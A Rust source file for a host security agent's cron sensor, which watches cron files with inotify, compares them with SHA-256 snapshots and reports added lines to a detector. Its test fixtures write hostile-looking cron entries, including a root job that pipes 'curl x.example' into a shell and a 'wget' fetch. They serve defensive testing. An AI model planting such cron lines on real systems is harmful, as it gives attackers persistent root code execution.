//! The cron-file sensor: inotify (the kernel's file event source) on `cron.paths`. Each file
//! written or moved into place is compared with its SHA-256 snapshot in the store; when it
//! changed, the lines it gained go to the event loop, where `detect::cron` judges them.
//! Every file is also checked once at start, so a change made while the agent was down is
//! reported too — once.

use std::{
    collections::HashMap,
    ffi::OsString,
    os::unix::fs::MetadataExt,
    path::{Path, PathBuf},
};

use inotify::{Inotify, WatchDescriptor, WatchMask};
use sha2::{Digest, Sha256};
use tokio::sync::mpsc;
use tracing::{debug, info, warn};

use crate::{
    detect::{
        Work,
        cron::{Change, added_lines},
    },
    store::history::{History, Snapshot},
    untrusted_file::{Links, UntrustedFile},
};

/// Bytes of a cron file read at most (cron files are small; a huge one is cut).
const MAX_FILE: u64 = 1024 * 1024;

#[derive(Debug, thiserror::Error)]
pub enum CronWatchError {
    #[error("inotify: {0}")]
    Inotify(#[from] std::io::Error),
    #[error(transparent)]
    History(#[from] crate::store::history::HistoryError),
}

/// A watched directory and, for a single configured file, the one name that matters in it.
type Watches = HashMap<WatchDescriptor, Vec<(PathBuf, Option<OsString>)>>;

/// Start watching `paths` on a thread of its own; changes go to `tx`.
pub fn spawn(
    paths: &[PathBuf],
    db: &Path,
    tx: mpsc::UnboundedSender<Work>,
) -> Result<(), CronWatchError> {
    let history = History::open(db)?;
    let inotify = Inotify::init()?;
    let mask = WatchMask::CLOSE_WRITE | WatchMask::MOVED_TO;
    let mut watches: Watches = HashMap::new();
    let mut files = Vec::new();
    for path in paths {
        let (dir, only) = if path.is_dir() {
            (path.clone(), None)
        } else {
            match (path.parent(), path.file_name()) {
                (Some(parent), Some(name)) if parent.is_dir() => {
                    (parent.to_path_buf(), Some(name.to_os_string()))
                }
                _ => {
                    debug!(path = %path.display(), "cron path absent: not watched");
                    continue;
                }
            }
        };
        let wd = inotify.watches().add(&dir, mask)?;
        files.extend(files_in(&dir, only.as_deref()));
        watches.entry(wd).or_default().push((dir, only));
    }
    info!(
        watched = watches.len(),
        files = files.len(),
        "cron files watched"
    );
    std::thread::Builder::new()
        .name("cron-watch".into())
        .spawn(move || {
            let mut watcher = Watcher { history, tx };
            for file in files {
                watcher.check(&file);
            }
            watcher.run(inotify, &watches);
        })?;
    Ok(())
}

/// The cron files in `dir` (or only `only` in it).
fn files_in(dir: &Path, only: Option<&std::ffi::OsStr>) -> Vec<PathBuf> {
    if let Some(name) = only {
        return vec![dir.join(name)];
    }
    std::fs::read_dir(dir)
        .map(|entries| entries.flatten().map(|e| e.path()).collect())
        .unwrap_or_default()
}

/// Editor and `crontab` temporaries, which cron never runs.
fn ignored(name: &str) -> bool {
    name.starts_with('.') || name.starts_with("tmp.") || name.ends_with('~')
}

struct Watcher {
    history: History,
    tx: mpsc::UnboundedSender<Work>,
}

impl Watcher {
    fn run(&mut self, mut inotify: Inotify, watches: &Watches) {
        let mut buffer = [0u8; 4096];
        loop {
            let events = match inotify.read_events_blocking(&mut buffer) {
                Ok(events) => events,
                Err(e) => {
                    warn!("cron watch stopped: {e}");
                    return;
                }
            };
            let changed: Vec<PathBuf> = events
                .filter_map(|ev| {
                    let name = ev.name?;
                    let (dir, _) = watches
                        .get(&ev.wd)?
                        .iter()
                        .find(|(_, only)| only.as_deref().is_none_or(|o| o == name))?;
                    Some(dir.join(name))
                })
                .collect();
            for path in changed {
                self.check(&path);
                if self.tx.is_closed() {
                    return;
                }
            }
        }
    }

    /// Compare `path` with its snapshot; report what it gained.
    fn check(&mut self, path: &Path) {
        let name = path.file_name().map(|n| n.to_string_lossy().into_owned());
        if name.as_deref().is_none_or(ignored) {
            return;
        }
        let Some((content, uid)) = read_file(path) else {
            return;
        };
        let sha256 = hex::encode(Sha256::digest(content.as_bytes()));
        let old = match self.history.snapshot(path) {
            Ok(old) => old,
            Err(e) => {
                warn!("cron snapshot of {}: {e}", path.display());
                None
            }
        };
        if old.as_ref().is_some_and(|o| o.sha256 == sha256) {
            return;
        }
        let added = added_lines(old.as_ref().map_or("", |o| o.content.as_str()), &content);
        if let Err(e) = self
            .history
            .put_snapshot(path, &Snapshot { sha256, content })
        {
            warn!("storing the cron snapshot of {}: {e}", path.display());
        }
        debug!(path = %path.display(), added = added.len(), "cron file changed");
        if !added.is_empty() {
            let _ = self.tx.send(Work::CronChanged(Change {
                path: path.to_path_buf(),
                uid,
                added,
            }));
        }
    }
}

/// A regular file's text (at most [`MAX_FILE`] bytes) and owner. Opened as an
/// [`UntrustedFile`]: a FIFO or device in a cron directory is skipped at once, not waited on
/// (this thread would stop watching); a symlink is followed (cron files may be links).
fn read_file(path: &Path) -> Option<(String, u32)> {
    let read = UntrustedFile::open(path, Links::Follow)
        .and_then(|file| Ok((file.head(MAX_FILE)?, file.metadata().uid())));
    match read {
        Ok((bytes, uid)) => Some((String::from_utf8_lossy(&bytes).into_owned(), uid)),
        Err(e) => {
            debug!(path = %path.display(), "cron file {e}");
            None
        }
    }
}

#[cfg(test)]
mod tests {
    use std::time::Duration;

    use super::*;

    async fn next(rx: &mut mpsc::UnboundedReceiver<Work>) -> Change {
        match tokio::time::timeout(Duration::from_secs(5), rx.recv()).await {
            Ok(Some(Work::CronChanged(c))) => c,
            other => panic!("no change: {other:?}"),
        }
    }

    #[tokio::test]
    async fn reports_a_change_once_with_the_lines_it_gained() {
        let dir = tempfile::tempdir().unwrap();
        let cron_d = dir.path().join("cron.d");
        std::fs::create_dir(&cron_d).unwrap();
        let crontab = dir.path().join("crontab");
        std::fs::write(&crontab, "17 * * * * root run-parts /etc/cron.hourly\n").unwrap();
        std::fs::write(cron_d.join(".placeholder"), "curl x | sh\n").unwrap();
        let (tx, mut rx) = mpsc::unbounded_channel();
        spawn(
            &[crontab.clone(), cron_d.clone(), dir.path().join("absent")],
            &dir.path().join("s.db"),
            tx,
        )
        .unwrap();
        // First sight: every line is new.
        let first = next(&mut rx).await;
        assert_eq!(first.path, crontab);
        assert_eq!(first.added, ["17 * * * * root run-parts /etc/cron.hourly"]);
        // A new file in the directory, then an append to the crontab.
        std::fs::write(cron_d.join("job"), "* * * * * root curl x.example | sh\n").unwrap();
        let c = next(&mut rx).await;
        assert_eq!(
            (c.path, c.added),
            (
                cron_d.join("job"),
                vec!["* * * * * root curl x.example | sh".to_string()]
            )
        );
        let mut text = std::fs::read_to_string(&crontab).unwrap();
        text.push_str("0 1 * * * root /usr/bin/true\n");
        std::fs::write(&crontab, &text).unwrap();
        let c = next(&mut rx).await;
        assert_eq!(c.added, ["0 1 * * * root /usr/bin/true"]);
        // Rewriting the same content reports nothing.
        std::fs::write(&crontab, &text).unwrap();
        assert!(
            tokio::time::timeout(Duration::from_millis(500), rx.recv())
                .await
                .is_err(),
            "unchanged content reported"
        );
        // A FIFO moved into place is skipped, and the watcher goes on.
        crate::untrusted_file::testing::mkfifo(&dir.path().join("trap"));
        std::fs::rename(dir.path().join("trap"), cron_d.join("trap")).unwrap();
        std::fs::write(cron_d.join("after"), "* * * * * root wget -q x.example\n").unwrap();
        let c = next(&mut rx).await;
        assert_eq!(c.path, cron_d.join("after"));
    }
}
